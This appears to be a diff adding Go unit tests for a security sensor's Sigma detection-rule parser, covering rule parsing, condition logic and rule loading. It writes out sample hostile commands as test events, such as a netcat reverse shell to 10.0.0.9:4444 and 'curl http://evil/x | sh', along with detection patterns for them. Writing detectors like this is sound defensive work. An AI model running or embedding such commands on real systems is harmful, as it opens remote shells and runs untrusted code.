@@ -0,0 +1,286 @@
+package detection
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/invisible-tech/autopilot-security-sensor/internal/types"
+)
+
+const sigmaReverseShell = `
+title: Netcat Reverse Shell
+id: 6f1c7b1a-0d7e-4b8a-9a55-3c0c2f1e2a11
+status: stable
+description: Netcat started with an -e flag to hand a shell to a remote host
+level: high
+tags:
+  - attack.execution
+  - attack.t1059.004
+falsepositives:
+  - Debug sessions
+logsource:
+  product: linux
+  category: process_creation
+detection:
+  selection_img:
+    Image|endswith:
+      - '/nc'
+      - '/ncat'
+  selection_cli:
+    CommandLine|contains|all:
+      - ' -e '
+      - 'sh'
+  filter_local:
+    CommandLine|contains: '127.0.0.1'
+  condition: all of selection_* and not filter_local
+playbook:
+  url: https://runbooks.example.com/reverse-shell
+  body: Isolate the pod, then capture its process tree.
+`
+
+func procEvent(exe string, cmdline ...string) *types.SecurityEvent {
+	return &types.SecurityEvent{
+		ID: "ev-1", Type: "process_start",
+		Process: &types.ProcessEventData{PID: 10, ExePath: exe, Cmdline: cmdline},
+	}
+}
+
+func TestParseSigma_ProcessCreation(t *testing.T) {
+	rule, err := ParseSigma([]byte(sigmaReverseShell))
+	if err != nil {
+		t.Fatalf("ParseSigma: %v", err)
+	}
+	if rule.ID != "SIGMA-6f1c7b1a-0d7e-4b8a-9a55-3c0c2f1e2a11" || rule.Severity != "HIGH" {
+		t.Errorf("ID=%q Severity=%q", rule.ID, rule.Severity)
+	}
+	if rule.MitreID != "T1059.004" || rule.MitreTactic != "Execution" {
+		t.Errorf("MitreID=%q MitreTactic=%q", rule.MitreID, rule.MitreTactic)
+	}
+	if len(rule.Actions) != 2 || !strings.Contains(rule.Actions[1], "Debug sessions") {
+		t.Errorf("Actions = %v", rule.Actions)
+	}
+	if rule.Playbook == nil || rule.Playbook.URL != "https://runbooks.example.com/reverse-shell" || rule.Playbook.Body == "" {
+		t.Errorf("Playbook = %+v", rule.Playbook)
+	}
+	if rule.Shadow {
+		t.Error("rule without shadow key loaded in shadow mode")
+	}
+	if shadow, err := ParseSigma([]byte(sigmaReverseShell + "shadow: true\n")); err != nil || !shadow.Shadow {
+		t.Errorf("shadow: true rule = %+v, err %v", shadow, err)
+	}
+
+	tests := []struct {
+		name  string
+		event *types.SecurityEvent
+		want  bool
+	}{
+		{"reverse shell", procEvent("/usr/bin/nc", "nc", "10.0.0.9", "4444", "-e", "/bin/sh"), true},
+		{"case insensitive", procEvent("/usr/bin/NCAT", "ncat", "-e", "/bin/SH", "x"), true},
+		{"filtered", procEvent("/usr/bin/nc", "nc", "127.0.0.1", "-e", "/bin/sh"), false},
+		{"missing -e", procEvent("/usr/bin/nc", "nc", "-l", "4444", "sh"), false},
+		{"other binary", procEvent("/usr/bin/socat", "socat", "-e", "sh"), false},
+		{"network event", &types.SecurityEvent{Network: &types.NetworkEventData{DstPort: 4444}}, false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := rule.Condition(tt.event); got != tt.want {
+				t.Errorf("Condition = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestParseSigma_ParentFields(t *testing.T) {
+	rule, err := ParseSigma([]byte(`
+id: parent
+level: high
+logsource: {category: process_creation}
+detection:
+  selection:
+    Image|endswith: /sh
+    ParentImage|endswith: /java
+    ParentCommandLine|contains: app.jar
+  condition: selection
+`))
+	if err != nil {
+		t.Fatalf("ParseSigma: %v", err)
+	}
+	event := procEvent("/bin/sh", "sh", "-c", "id")
+	if rule.Condition(event) {
+		t.Error("matched an event without ancestors")
+	}
+	event.Process.Ancestors = []types.ProcessAncestor{{PID: 7, Name: "java", ExePath: "/usr/bin/java", Cmdline: []string{"java", "-jar", "app.jar"}}}
+	if !rule.Condition(event) {
+		t.Error("did not match a shell whose parent is java")
+	}
+}
+
+func TestParseSigma_NetworkConnection(t *testing.T) {
+	rule, err := ParseSigma([]byte(`
+title: Connection to Tor Relay Port
+id: net-1
+level: medium
+tags: [attack.command_and_control, attack.t1090]
+logsource:
+  category: network_connection
+detection:
+  selection:
+    DestinationPort: [9001, 9030]
+  filter:
+    DestinationIp|cidr: 10.0.0.0/8
+  condition: selection and not filter
+`))
+	if err != nil {
+		t.Fatalf("ParseSigma: %v", err)
+	}
+	if rule.MitreTactic != "Command and Control" || rule.MitreID != "T1090" {
+		t.Errorf("MitreTactic=%q MitreID=%q", rule.MitreTactic, rule.MitreID)
+	}
+	net := func(ip string, port int) *types.SecurityEvent {
+		return &types.SecurityEvent{Network: &types.NetworkEventData{Protocol: "tcp", DstIP: ip, DstPort: port}}
+	}
+	if !rule.Condition(net("203.0.113.5", 9001)) {
+		t.Error("external connection to 9001 should match")
+	}
+	if rule.Condition(net("10.1.2.3", 9001)) {
+		t.Error("internal connection should be filtered")
+	}
+	if rule.Condition(net("203.0.113.5", 443)) {
+		t.Error("port 443 should not match")
+	}
+}
+
+func TestParseSigma_Conditions(t *testing.T) {
+	tests := []struct {
+		cond string
+		want bool
+	}{
+		{"a", true},
+		{"b", false},
+		{"a and b", false},
+		{"a or b", true},
+		{"not b", true},
+		{"a and (b or c)", true},
+		{"not (a or b)", false},
+		{"1 of x*", true},
+		{"all of x*", false},
+		{"1 of them", true},
+		{"all of them", false},
+		{"b or not c and a", false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.cond, func(t *testing.T) {
+			rule, err := ParseSigma([]byte(`
+id: c
+level: low
+logsource: {category: process_creation}
+detection:
+  a: {Image: /bin/sh}
+  b: {Image: /bin/bash}
+  c: {CommandLine|startswith: sh}
+  x1: {ProcessId: 10}
+  x2: {ProcessId: 11}
+  condition: ` + tt.cond))
+			if err != nil {
+				t.Fatalf("ParseSigma: %v", err)
+			}
+			if got := rule.Condition(procEvent("/bin/sh", "sh", "-c", "id")); got != tt.want {
+				t.Errorf("Condition = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestParseSigma_Values(t *testing.T) {
+	tests := []struct {
+		field string
+		value string
+		want  bool
+	}{
+		{"CommandLine", "'curl * | sh'", true},
+		{"CommandLine", "'curl http://?vil/x | sh'", true},
+		{"CommandLine", `'curl \*'`, false},
+		{"CommandLine|re", "'^curl .*\\| sh$'", true},
+		{"CommandLine|startswith", "CURL", true},
+		{"CommandLine|endswith", "bash", false},
+		{"User", "null", true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.field+"="+tt.value, func(t *testing.T) {
+			rule, err := ParseSigma([]byte(`
+id: v
+level: low
+logsource: {category: process_creation}
+detection:
+  selection:
+    ` + tt.field + `: ` + tt.value + `
+  condition: selection`))
+			if err != nil {
+				t.Fatalf("ParseSigma: %v", err)
+			}
+			if got := rule.Condition(procEvent("/usr/bin/curl", "curl", "http://evil/x", "|", "sh")); got != tt.want {
+				t.Errorf("Condition = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestParseSigma_Unsupported(t *testing.T) {
+	tests := []struct {
+		name, rule, wantErr string
+	}{
+		{"no id", "level: low\nlogsource: {category: process_creation}", "no id"},
+		{"category", "id: u\nlevel: low\nlogsource: {category: file_event}", "unsupported logsource category"},
+		{"level", "id: u\nlevel: urgent\nlogsource: {category: process_creation}", "unknown level"},
+		{"field", "id: u\nlevel: low\nlogsource: {category: process_creation}\ndetection:\n  s: {IntegrityLevel: High}\n  condition: s", "unsupported field"},
+		{"modifier", "id: u\nlevel: low\nlogsource: {category: process_creation}\ndetection:\n  s: {Image|base64: x}\n  condition: s", "unsupported modifier"},
+		{"keywords", "id: u\nlevel: low\nlogsource: {category: process_creation}\ndetection:\n  s: [mimikatz]\n  condition: s", "keyword"},
+		{"aggregation", "id: u\nlevel: low\nlogsource: {category: process_creation}\ndetection:\n  s: {Image: x}\n  condition: s | count() > 5", "aggregations"},
+		{"unknown selection", "id: u\nlevel: low\nlogsource: {category: process_creation}\ndetection:\n  s: {Image: x}\n  condition: t", "unknown selection"},
+		{"no condition", "id: u\nlevel: low\nlogsource: {category: process_creation}\ndetection:\n  s: {Image: x}", "no condition"},
+		{"playbook", "id: u\nlevel: low\nlogsource: {category: process_creation}\ndetection:\n  s: {Image: x}\n  condition: s\nplaybook: {url: runbooks/x}", "not an http(s) URL"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			_, err := ParseSigma([]byte(tt.rule))
+			if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+				t.Errorf("err = %v, want containing %q", err, tt.wantErr)
+			}
+		})
+	}
+}
+
+func TestLoadSigmaDir(t *testing.T) {
+	dir := t.TempDir()
+	files := map[string]string{
+		"revshell.yml": sigmaReverseShell,
+		"dup.yaml":     sigmaReverseShell,
+		"bad.yml":      "id: bad\nlevel: low\nlogsource: {category: dns_query}",
+		"README.md":    "not a rule",
+	}
+	for name, body := range files {
+		if err := os.WriteFile(filepath.Join(dir, name), []byte(body), 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	rules, err := LoadSigmaDir(dir)
+	if len(rules) != 1 {
+		t.Fatalf("loaded %d rules, want 1", len(rules))
+	}
+	if err == nil || !strings.Contains(err.Error(), "bad.yml") || !strings.Contains(err.Error(), "duplicate rule id") {
+		t.Errorf("err = %v, want bad.yml and duplicate errors", err)
+	}
+
+	e := NewEngine()
+	before := len(e.Rules())
+	e.AddRules(rules...)
+	alerts := e.Evaluate(procEvent("/bin/nc", "nc", "1.2.3.4", "-e", "/bin/sh"))
+	if len(e.Rules()) != before+1 || len(alerts) != 1 || alerts[0].RuleID != rules[0].ID {
+		t.Fatalf("rules=%d alerts=%v", len(e.Rules()), alerts)
+	}
+	if alerts[0].Playbook != rules[0].Playbook {
+		t.Errorf("alert playbook = %+v, want the rule's", alerts[0].Playbook)
+	}
+}